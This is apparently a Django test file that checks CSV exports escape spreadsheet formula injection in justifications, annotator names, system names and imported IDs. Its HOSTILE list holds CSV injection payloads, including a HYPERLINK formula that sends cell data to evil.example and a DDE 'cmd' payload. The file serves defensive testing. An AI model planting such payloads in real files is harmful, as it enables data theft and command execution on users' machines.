"""Formula injection (issue #32, point 7): a justification or annotator name that begins with
= + - @ (or a tab or carriage return) reaches every CSV the product writes escaped, so a
spreadsheet shows it as text instead of running it; the JSON Lines export stays verbatim."""
from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotation.domain.csv_safe import csv_safe
from annotation.models import StageStatus, TaskKind
from testing.factories import (
    make_item,
    make_judgment,
    make_project,
    make_stage,
    make_user,
    make_worker,
)

pytestmark = [pytest.mark.reliability, pytest.mark.django_db]

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_the_helper_escapes_formula_prefixes_and_leaves_numbers_and_text_alone():
    for text in HOSTILE:
        assert csv_safe(text) == "'" + text
    assert csv_safe("Because B cites the source.") == "Because B cites the source."
    assert csv_safe(-1.5) == -1.5 and csv_safe(None) is None and csv_safe("") == ""


@pytest.mark.parametrize("fmt", ["cli", "admin"])
def test_every_judgment_export_escapes_formulas_in_csv_and_keeps_json_verbatim(client, fmt):
    owner = make_user("owner", superuser=True)
    project = make_project(TaskKind.AB, owner=owner, slug="inj")
    stage = make_stage(project, name="full")
    item = make_item(project, external_id="it")
    for n, text in enumerate(HOSTILE):
        make_judgment(item=item, stage=stage, worker=make_worker(external_id=f"@w{n}"),
                      choice="A", justification=text)
    if fmt == "cli":
        out = io.StringIO()
        call_command("export_data", "inj", "--format", "csv", "--no-progress", stdout=out)
        body = out.getvalue()
    else:
        client.force_login(owner)
        response = client.post(reverse("admin:annotation_project_changelist"),
                               {"action": "export_csv", "_selected_action": [project.pk]})
        body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert sorted(r["justification"] for r in rows) == sorted("'" + t for t in HOSTILE)
    assert {r["worker"] for r in rows} == {f"'@w{n}" for n in range(len(HOSTILE))}
    # No cell of the file begins a formula.
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for value in row.values() if value)

    jsonl = io.StringIO()
    call_command("export_data", "inj", "--no-progress", stdout=jsonl)
    stored = sorted(json.loads(line)["judgment"]["justification"]
                    for line in jsonl.getvalue().splitlines())
    assert stored == sorted(HOSTILE)


def test_annotator_link_downloads_escape_formula_names(client, settings):
    settings.QAJ_PUBLIC_BASE_URL = "https://qaj.example.org"
    client.force_login(make_user(superuser=True))
    project = make_project(TaskKind.LIKERT, items_per_hit=1)
    make_item(project)
    stage = make_stage(project, status=StageStatus.COLLECTING)
    response = client.post(reverse("admin:annotation_stage_changelist"), {
        "action": "create_inhouse_links", "_selected_action": [stage.pk], "index": "0",
        "reason": "=1+2, @SUM(A1), Ada"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["annotator"] for r in rows] == ["'=1+2", "'@SUM(A1)", "Ada"]
    assert all(r["link"].startswith("https://qaj.example.org/") for r in rows)


def test_the_leaderboard_csv_escapes_system_names_and_keeps_numbers(client):
    """System names come from imported A/B content: one named like a formula is text in the
    leaderboard CSV (GET …/leaderboard/?output=csv); negative strengths stay numbers."""
    owner = make_user("owner")
    project = make_project(TaskKind.AB, owner=owner, slug="board")
    stage = make_stage(project, name="full")
    evil = HOSTILE[0]
    workers = [make_worker(external_id=f"w{n}") for n in range(3)]
    for n in range(6):
        item = make_item(project, content={
            "question": f"q{n}", "evidence": [], "setting": "HM",
            "answer_a": {"text": "a", "kind": "model", "upvotes": None, "system": evil},
            "answer_b": {"text": "b", "kind": "model", "upvotes": None, "system": "honest"}})
        for i, worker in enumerate(workers):
            make_judgment(item=item, stage=stage, worker=worker,
                          choice="A" if (n + i) % 3 else "B")
    client.force_login(owner)
    response = client.get(reverse("metrics-api:project-leaderboard", args=["board"]),
                          {"output": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert {r["system"] for r in rows} == {"'" + evil, "honest"}
    for row in rows:
        assert not any(value.startswith(("=", "+", "@", "\t", "\r"))
                       for value in row.values() if value)
        float(row["strength"])  # a number, even when negative
    assert any(float(r["strength"]) < 0 for r in rows)


def test_the_release_preview_csv_escapes_imported_ids(client):
    owner = make_user("owner", superuser=True)
    project = make_project(TaskKind.LIKERT, owner=owner)
    make_item(project, external_id="=1+2", dataset="@SUM(A1)")
    stage = make_stage(project, status=StageStatus.DRAFT)
    client.force_login(owner)
    response = client.get(reverse("admin:annotation_stage_release_preview",
                                  args=[stage.pk]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert [(r["external_id"], r["dataset"]) for r in rows] == [("'=1+2", "'@SUM(A1)")]
